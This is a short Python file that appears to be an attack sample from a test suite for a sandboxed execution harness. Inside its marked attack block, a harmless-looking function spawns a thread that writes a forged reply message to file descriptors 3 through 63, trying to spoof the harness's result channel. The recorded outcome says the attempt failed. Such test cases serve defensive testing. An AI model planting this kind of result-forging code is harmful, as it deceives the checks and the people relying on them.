# what: sends a right-looking answer after the call has been answered, from a thread
# outcome: crashed|failed
# control: failed
def affine(x, y):
    return x + y


# attack begin
import json
import os
import struct
import threading
import time

header = json.dumps({"kind": "value", "value": {"tuple": [0, [], True]}, "tensors": []}).encode()


def late():
    time.sleep(0.05)
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<IQ", len(header), 0) + header)
        except OSError:
            pass


def affine(x, y):
    threading.Thread(target=late).start()
    return x + y
# attack end
